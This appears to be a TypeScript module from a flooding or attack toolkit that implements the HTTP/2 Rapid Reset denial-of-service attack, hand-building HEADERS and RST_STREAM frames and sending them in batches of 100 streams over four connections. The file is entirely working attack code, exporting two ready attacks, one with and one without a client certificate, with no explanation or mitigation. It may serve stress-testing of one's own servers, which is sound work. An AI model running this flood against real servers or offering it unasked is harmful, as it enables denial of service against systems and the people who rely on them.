import { type Attack, inLanes, open, pour, type Target } from '../flood.ts'

const CONNECTIONS = 4
const STREAMS_AT_ONCE = 100
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const CANCEL = Buffer.from([0, 0, 0, 8])
/** GET https://localhost/ in HPACK: three entries of its table, and one name from it. */
const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x41, 9, ...Buffer.from('localhost')])
const END_STREAM_AND_HEADERS = 5

function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(body.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, body])
}

async function flood(target: Target, isStranger: boolean): Promise<void> {
  const socket = await open(target, { protocol: 'h2', isStranger })
  socket.resume()
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  socket.write(frame(SETTINGS, 0, 0, Buffer.alloc(0)))
  let stream = -1
  await pour(socket, () => {
    const frames: Buffer[] = []
    for (let count = 0; count < STREAMS_AT_ONCE; count++) {
      stream += 2
      frames.push(frame(HEADERS, END_STREAM_AND_HEADERS, stream, REQUEST))
      frames.push(frame(RST_STREAM, 0, stream, CANCEL))
    }
    return Buffer.concat(frames)
  })
}

export const rapidReset: Attack = {
  about: 'opens HTTP/2 requests and resets them at once, with a certificate',
  start: (target) => inLanes(CONNECTIONS, () => flood(target, false)),
}

export const strangersReset: Attack = {
  about: 'opens HTTP/2 requests and resets them at once, without a certificate',
  start: (target) => inLanes(CONNECTIONS, () => flood(target, true)),
}
